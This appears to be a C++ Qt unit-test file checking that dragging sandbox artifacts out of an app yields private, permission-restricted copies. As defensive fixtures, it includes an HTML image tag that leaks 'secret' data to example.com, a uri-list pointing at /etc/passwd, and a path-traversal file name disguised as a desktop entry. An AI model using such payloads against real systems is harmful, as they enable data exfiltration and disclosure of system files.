// Dragging an artifact out of the app: from the gallery, a run's strip and the preview, always a private copy.
#include "gui/widgets/ArtifactDrag.h"

#include "TestImages.h"
#include "artifacts/Artifact.h"
#include "gui/gallery/GalleryModel.h"
#include "gui/gallery/GalleryPage.h"
#include "gui/widgets/ArtifactPreviewDialog.h"
#include "gui/widgets/ArtifactStrip.h"
#include "gui/widgets/ThumbnailProvider.h"
#include "journal/JournalFeed.h"
#include "journal/JournalRecorder.h"

#include <QBuffer>
#include <QDesktopServices>
#include <QDir>
#include <QFileInfo>
#include <QImage>
#include <QMimeData>
#include <QTemporaryDir>
#include <QUrl>
#include <gtest/gtest.h>
#include <memory>
#include <sys/stat.h>

using namespace sandbox;
using namespace sandbox::gui;

namespace {

QByteArray png()
{
    return guitest::png(Qt::magenta, {40, 30});
}

int modeOf(const QString &path)
{
    struct stat status
    {
    };
    return ::stat(QFile::encodeName(path).constData(), &status) == 0 ? int(status.st_mode & 07777) : -1;
}

/// Counts what the desktop would have been asked to open.
class LaunchCounter final : public QObject
{
    Q_OBJECT
public:
    int launched = 0;
public slots:
    void open(const QUrl &) { ++launched; }
};

class ArtifactDragTest : public ::testing::Test
{
protected:
    void SetUp() override
    {
        for (const char *scheme : {"file", "http", "https"}) {
            QDesktopServices::setUrlHandler(QLatin1String(scheme), &m_launches, "open");
        }
    }
    void TearDown() override
    {
        for (const char *scheme : {"file", "http", "https"}) {
            QDesktopServices::unsetUrlHandler(QLatin1String(scheme));
        }
        EXPECT_EQ(m_launches.launched, 0) << "a file of a sandbox was handed to the desktop";
    }

    /// The one file a drag's data names, checked to be a private copy holding `data`.
    static QString expectPrivateCopy(const QMimeData *mime, const QByteArray &data, const QString &original = {})
    {
        EXPECT_TRUE(mime->hasUrls());
        const QList<QUrl> urls = mime->urls();
        EXPECT_EQ(urls.size(), 1);
        if (urls.size() != 1) {
            return {};
        }
        EXPECT_TRUE(urls.first().isLocalFile());
        const QString copy = urls.first().toLocalFile();
        const QString root = ArtifactDrag::folder();
        EXPECT_TRUE(copy.startsWith(root + QLatin1Char('/'))) << qPrintable(copy);
        if (!original.isEmpty()) {
            EXPECT_NE(QFileInfo(copy).canonicalFilePath(), QFileInfo(original).canonicalFilePath());
        }
        EXPECT_EQ(modeOf(copy), 0600) << qPrintable(copy);
        EXPECT_EQ(modeOf(QFileInfo(copy).path()), 0700);
        EXPECT_EQ(modeOf(root), 0700);
        QFile file(copy);
        EXPECT_TRUE(file.open(QIODevice::ReadOnly));
        EXPECT_EQ(file.readAll(), data);
        return copy;
    }

    LaunchCounter m_launches;
};

} // namespace

TEST_F(ArtifactDragTest, aGalleryDragCarriesAPrivateCopyNeverTheJournalsFile)
{
    QTemporaryDir dir;
    ASSERT_TRUE(dir.isValid());
    const QString path = dir.filePath(QStringLiteral("journal.sqlite"));
    JournalRecorder recorder(path, JournalRecorder::Context{QStringLiteral("docker"), QString(), {}, {}});
    RunRequest request;
    request.language = QStringLiteral("python");
    recorder.runStarted(QStringLiteral("run"), request);
    Artifact chart;
    chart.name = QStringLiteral("chart.png");
    chart.mimeType = QStringLiteral("image/png");
    chart.data = png();
    recorder.runArtifact(QStringLiteral("run"), chart);
    recorder.runFinished(QStringLiteral("run"), RunResult{}, std::nullopt);
    recorder.flush();
    JournalFeed feed(path);
    ThumbnailProvider thumbnails;
    GalleryPage page(feed, thumbnails);
    page.waitForLoaded();
    GalleryModel *model = page.model();
    ASSERT_EQ(model->rowCount(), 1);
    EXPECT_TRUE(model->mimeTypes().contains(QStringLiteral("text/uri-list")));

    const std::unique_ptr<QMimeData> mime(model->mimeData({model->index(0)}));
    ASSERT_NE(mime, nullptr);
    const QString original = model->entry(0).artifact.path;
    const QString copy = expectPrivateCopy(mime.get(), chart.data, original);
    EXPECT_EQ(QFileInfo(copy).fileName(), QStringLiteral("chart.png"));
    EXPECT_EQ(mime->data(QStringLiteral("image/png")), chart.data);
    EXPECT_FALSE(mime->hasImage()) << "nothing is decoded for a drag";
    // The journal's file is where it was, untouched.
    QFile kept(original);
    ASSERT_TRUE(kept.open(QIODevice::ReadOnly));
    EXPECT_EQ(kept.readAll(), chart.data);
}

TEST_F(ArtifactDragTest, aStripDragCopiesALiveRunsBytesAndEachDragGetsItsOwnFile)
{
    ThumbnailProvider thumbnails;
    ArtifactStrip strip(thumbnails);
    Artifact chart;
    chart.name = QStringLiteral("figure_1.png");
    chart.mimeType = QStringLiteral("image/png");
    chart.data = png();
    strip.addArtifact(chart);
    QAbstractItemModel *model = strip.model();
    EXPECT_TRUE(strip.dragEnabled());
    EXPECT_TRUE(model->flags(model->index(0, 0)) & Qt::ItemIsDragEnabled);

    const std::unique_ptr<QMimeData> first(model->mimeData({model->index(0, 0)}));
    ASSERT_NE(first, nullptr);
    const QString one = expectPrivateCopy(first.get(), chart.data);
    EXPECT_EQ(first->data(QStringLiteral("image/png")), chart.data);
    const std::unique_ptr<QMimeData> second(model->mimeData({model->index(0, 0)}));
    ASSERT_NE(second, nullptr);
    const QString two = expectPrivateCopy(second.get(), chart.data);
    EXPECT_NE(one, two) << "a program still reading the first drag's copy keeps it";
    EXPECT_TRUE(QFileInfo::exists(one));
}

TEST_F(ArtifactDragTest, thePreviewsDragNamesAndTypesTheCopyByItsBytesNotByWhatTheSandboxClaimed)
{
    const QByteArray html = "<html><img src='http://example.com/leak?data=secret'></html>";
    const QByteArray csv = "x,y\n1,2\n";
    const QByteArray list = "file:///etc/passwd\n";
    ArtifactPreviewDialog dialog(
        {PreviewItem{QStringLiteral("../../.bashrc.desktop"), QStringLiteral("application/x-desktop"), png(), {}, {}},
         PreviewItem{QStringLiteral("page.html"), QStringLiteral("text/html"), html, {}, {}},
         PreviewItem{QStringLiteral("data.csv"), QStringLiteral("text/csv"), csv, {}, {}},
         PreviewItem{QStringLiteral("links"), QStringLiteral("text/uri-list"), list, {}, {}}},
        0);

    // A PNG named to pass for a desktop entry, in a folder above: a file of its own, hidden by no dot, named .png.
    std::unique_ptr<QMimeData> mime(dialog.dragData());
    ASSERT_NE(mime, nullptr);
    QString copy = expectPrivateCopy(mime.get(), png());
    EXPECT_EQ(QFileInfo(copy).fileName(), QStringLiteral("bashrc.desktop.png"));
    EXPECT_EQ(mime->formats(), (QStringList{QStringLiteral("text/uri-list"), QStringLiteral("image/png")}));

    // HTML would load what it links to wherever it is dropped: its source goes as plain text.
    dialog.setCurrent(1);
    mime.reset(dialog.dragData());
    ASSERT_NE(mime, nullptr);
    expectPrivateCopy(mime.get(), html);
    EXPECT_FALSE(mime->hasHtml());
    EXPECT_EQ(mime->data(QStringLiteral("text/plain")), html);

    dialog.setCurrent(2);
    mime.reset(dialog.dragData());
    ASSERT_NE(mime, nullptr);
    expectPrivateCopy(mime.get(), csv);
    EXPECT_EQ(mime->data(QStringLiteral("text/csv")), csv);

    // A sandbox claiming its text is a list of files names no file but the copy.
    dialog.setCurrent(3);
    mime.reset(dialog.dragData());
    ASSERT_NE(mime, nullptr);
    copy = expectPrivateCopy(mime.get(), list);
    EXPECT_EQ(mime->urls(), QList<QUrl>{QUrl::fromLocalFile(copy)});
    EXPECT_EQ(mime->data(QStringLiteral("text/plain")), list);
}

#include "ArtifactDragTest.moc"
